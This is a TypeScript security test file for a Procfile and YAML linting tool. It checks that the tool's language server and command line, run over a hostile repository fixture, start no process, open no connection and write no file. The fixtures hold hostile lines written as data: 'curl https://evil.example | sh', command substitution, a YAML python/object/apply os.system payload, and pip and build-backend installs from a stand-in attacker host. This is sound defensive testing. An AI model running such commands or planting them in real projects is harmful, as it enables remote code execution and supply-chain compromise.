// Reading runs nothing: no program, no connection, no Python, no file written, whatever a hostile repository says and whatever
// the editor asks.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { commandLine } from '../support/command-line.ts';
import { LanguageServer } from '../support/language-server.ts';
import { ScratchFolder } from '../support/scratch-folder.ts';

/** Loaded before a program: writes down what it begins. */
const WITNESS = `
const fs = require('node:fs');
const write = fs.writeFileSync;
const seen = (what) => write(__dirname + '/witness.txt', what + '\\n', { flag: 'a' });
const watch = (module, from, names) => {
  for (const name of names) {
    const original = module[name];
    if (typeof original !== 'function') throw new Error(from + '.' + name);
    module[name] = function (...args) { seen(from + '.' + name + ' ' + String(args[0])); return original.apply(this, args); };
  }
};
watch(require('node:child_process'), 'child_process', ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']);
watch(require('node:child_process').ChildProcess.prototype, 'ChildProcess', ['spawn']);
watch(require('node:net').Socket.prototype, 'Socket', ['connect']);
watch(require('node:net').Server.prototype, 'Server', ['listen']);
watch(require('node:dns'), 'dns', ['lookup', 'resolve']);
watch(require('node:dgram'), 'dgram', ['createSocket']);
watch(require('node:http'), 'http', ['request', 'get']);
watch(require('node:https'), 'https', ['request', 'get']);
watch(globalThis, 'globalThis', ['fetch', 'eval']);
watch(fs, 'fs', ['writeFileSync', 'writeFile', 'createWriteStream', 'mkdirSync', 'mkdir', 'rmSync', 'rm', 'unlink', 'rename', 'symlink']);
watch(fs.promises, 'fs.promises', ['writeFile', 'mkdir', 'rm', 'unlink', 'rename', 'symlink', 'appendFile']);
// Modules that import them see it, too.
require('node:module').syncBuiltinESMExports();
`;

const RUNS = `touch pwned; import os; os.system('touch pwned')`;
const FILES = {
  Procfile: [
    'web: gunicorn -c gunicorn.conf.py -k $(touch pwned) --logger-class "`touch pwned`" wsgi:app --tiemout 3',
    'worker: celery -A https://evil.example/app worker --config http://evil.example/c.py',
    `release: python -c "import os; os.system('touch pwned')"; curl https://evil.example | sh`,
    'load: pip install -r http://evil.example/r.txt && uvicorn evil:app --ssl-keyfile ftp://evil.example/k',
    '',
  ].join('\n'),
  'app_desc.yaml': `spec_version: 2\nlogo: https://evil.example/l.png\nmodule:\n  language: !!python/object/apply:os.system ["touch pwned"]\n  processes:\n    web:\n      command: gunicorn wsgi\n`,
  'gunicorn.conf.py': `import os\nos.system('touch pwned')\nworkers = __import__('os').system('touch pwned')\nbind = eval("1")\n`,
  'wsgi.py': `import os\nos.system('touch pwned')\napp = 1\n`,
  'requirements.txt':
    '--index-url https://evil.example/simple\n-r https://evil.example/r.txt\n-e git+ssh://git@evil.example/a.git#egg=a\ngunicorn==23.0.0\n',
  'pyproject.toml': `[build-system]\nrequires = ["evil @ https://evil.example/e.whl"]\nbuild-backend = "evil"\nbackend-path = ["."]\n`,
  '.env': `SECRET=$(touch pwned)\nPATH=.\n`,
  '.procfile-doctor.yaml': `logs:\n  patterns:\n    own: { pattern: "x", title: "${RUNS}" }\n`,
  'app.log':
    '[2026-11-20 09:59:51 +0800] [1] [CRITICAL] WORKER TIMEOUT (pid:17) $(touch pwned) https://evil.example/\n',
};

function hostileFolder() {
  const folder = new ScratchFolder();
  folder.write({
    'witness/witness.cjs': WITNESS,
    ...Object.fromEntries(Object.entries(FILES).map(([name, text]) => [`app/${name}`, text])),
  });
  return {
    folder,
    root: pathToFileURL(folder.file('app')).href,
    path: folder.file('app'),
    env: { NODE_OPTIONS: `--require ${folder.file('witness/witness.cjs')}` },
    /** What has happened since. */
    witnessed: () => {
      const file = folder.file('witness/witness.txt');
      return existsSync(file) ? readFileSync(file, 'utf8').trimEnd().split('\n') : [];
    },
    [Symbol.dispose]: () => folder[Symbol.dispose](),
  };
}

function assertUntouched(path: string): void {
  assert.deepEqual(readdirSync(path).sort(), Object.keys(FILES).sort());
  for (const [name, text] of Object.entries(FILES)) assert.equal(readFileSync(`${path}/${name}`, 'utf8'), text);
}

test('the server reads a hostile repository, and answers everything about it', async () => {
  using hostile = hostileFolder();
  const { root, env } = hostile;
  {
    await using server = await LanguageServer.start(
      { workspaceFolders: [{ name: 'app', uri: root }] },
      'dist/server.js',
      env,
    );
    for (const name of ['Procfile', 'app_desc.yaml'] as const) {
      const text = FILES[name];
      const textDocument = { uri: `${root}/${name}` };
      await server.open(textDocument.uri, text, name === 'Procfile' ? 'procfile' : 'yaml');
      await server.diagnostics(textDocument.uri, ({ diagnostics }) => diagnostics.length > 0);
      const lines = text.split('\n');
      for (const [line, content] of lines.entries()) {
        for (let character = 0; character <= content.length; character += 5) {
          const position = { line, character };
          await Promise.all(
            ['hover', 'completion', 'signatureHelp', 'definition', 'references'].map((method) =>
              server.request(`textDocument/${method}`, {
                textDocument,
                position,
                context: { includeDeclaration: true },
              }),
            ),
          );
        }
      }
      const range = { start: { line: 0, character: 0 }, end: { line: lines.length - 1, character: 0 } };
      const ofDocument = [
        'documentLink',
        'documentSymbol',
        'codeLens',
        'foldingRange',
        'semanticTokens/full',
        'formatting',
      ];
      for (const method of [...ofDocument, 'inlayHint', 'codeAction'])
        await server.request(`textDocument/${method}`, {
          textDocument,
          range,
          context: { diagnostics: [] },
          options: { tabSize: 2, insertSpaces: true },
        });
      await server.request('procfileDoctor/effectiveConfiguration', textDocument);
      await server.request('procfileDoctor/platform', textDocument);
    }
    await server.request('workspace/symbol', { query: '' });
    await server.request('procfileDoctor/checkFiles', { folder: root, paths: [root], fix: true });
    await server.request('procfileDoctor/diagnose', {});
  }
  assert.deepEqual(hostile.witnessed(), []);
  assertUntouched(hostile.path);
});

test('so does the command line', () => {
  using hostile = hostileFolder();
  const commands = [
    ['check', '.'],
    ['check', '--diff', '.'],
    ['effective', '.'],
    ['diagnose', '--logs', 'app.log', '.'],
    ['logs', 'app.log'],
  ];
  for (const command of commands) {
    const { status, stderr } = commandLine(command, { cwd: hostile.path, env: hostile.env });
    assert.ok(status === 0 || status === 1, `${command.join(' ')}: ${stderr}`);
  }
  assert.deepEqual(hostile.witnessed(), []);
  assertUntouched(hostile.path);
});

test('the witness sees what is begun', () => {
  using hostile = hostileFolder();
  const script = `
    import { spawnSync } from 'node:child_process';
    import { connect } from 'node:net';
    import { writeFile } from 'node:fs/promises';
    spawnSync('true');
    connect(9, '127.0.0.1').on('error', () => undefined);
    await writeFile('pwned', '');
    await fetch('http://127.0.0.1:9').catch(() => undefined);`;
  const env = { ...process.env, ...hostile.env };
  spawnSync(process.execPath, ['--input-type=module', '-e', script], { cwd: hostile.path, env });
  const seen = hostile.witnessed().join(' ');
  for (const name of ['child_process.spawnSync', 'Socket.connect', 'fs.promises.writeFile', 'globalThis.fetch'])
    assert.ok(seen.includes(name), `${name}: ${seen}`);
});
